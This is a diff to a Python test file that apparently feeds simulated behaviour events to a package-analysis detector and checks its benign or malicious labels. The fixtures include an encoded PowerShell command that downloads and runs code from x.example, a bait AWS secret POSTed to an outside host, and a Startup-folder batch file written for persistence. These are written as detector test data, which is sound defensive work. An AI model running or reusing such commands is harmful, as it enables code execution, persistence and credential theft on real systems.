@@ -59,10 +59,10 @@ CONTEXT_EVENTS = {
         "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                         [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
     "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
-        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "pkgtrace-placeholder.example",
-        "http": {"method": "POST", "target": "/", "host": "pkgtrace-placeholder.example", "headers": [],
+        "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "hooks.example.com",
+        "http": {"method": "POST", "target": "/", "host": "hooks.example.com", "headers": [],
                  "body_b64": _b64("BAIT_AWS_SECRET")}})],
-                                  [("network", _http("pkgtrace-placeholder.example"))]),
+                                  [("network", _http("hooks.example.com"))]),
     "DYN-PERSONA-STARTUP-WRITE": ("import", [("files", {
         "path": "/root/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.bat",
         "read": False, "write": True, "delete": False})],
@@ -115,7 +115,7 @@ def test_the_same_read_followed_by_a_send_is_theft():
 
 def test_a_call_pkgtrace_pointed_at_its_own_destination_is_not_network_or_theft():
     # an HTTP client's get(url) in execute, after an SDK read: pkgtrace chose that destination
-    v = judge(_with([("files", _read(AWS)), ("network", _http("pkgtrace-placeholder.example"))], "execute"),
+    v = judge(_with([("files", _read(AWS)), ("network", _http("hooks.example.com"))], "execute"),
               suppressions=[])
     assert v["label"] == "benign", v["findings"]
     assert not {"DYN-NETWORK-EXECUTE", "DYN-CREDENTIAL-THEFT"} & set(v["rules_fired"])
